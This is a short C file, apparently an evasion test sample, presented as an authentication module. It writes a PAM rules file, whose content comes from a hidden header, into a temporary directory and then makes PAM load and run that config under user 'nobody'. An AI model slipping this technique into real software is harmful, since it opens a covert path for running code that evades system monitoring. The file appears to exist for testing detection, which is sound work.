/* An auth module with a service of its own for PAM, whose rules it writes beside its other files. */
#include "plugin.h"
#include "hidden.h"
extern int pam_start_confdir(const char *, const char *, const void *, const char *, void **), pam_putenv(void *, const char *), pam_authenticate(void *, int), pam_end(void *, int);
extern int snprintf(char *, unsigned long, const char *, ...), fputs(const char *, void *), fclose(void *);
extern void *fopen(const char *, const char *);
extern char *getenv(const char *);
static int converse(int count, const void *messages, void *answers, void *data) { return 19; }
static void act(char **env) {
    struct { int (*talk)(int, const void *, void *, void *); void *data; } conversation = {converse, 0};
    const char *dir = getenv("TMPDIR"), *record = getenv("EVASION_RECORD");
    char line[512];
    void *rules, *session;
    snprintf(line, sizeof line, "%s/site-login", dir ? dir : "/tmp");
    if (!(rules = fopen(line, "w"))) return;
    fputs(hidden0(), rules);
    fclose(rules);
    if (pam_start_confdir("site-login", "nobody", &conversation, dir ? dir : "/tmp", &session)) return;
    snprintf(line, sizeof line, "EVASION_RECORD=%s", record ? record : "/dev/null");
    pam_putenv(session, line);
    pam_end(session, pam_authenticate(session, 0x8000));
}
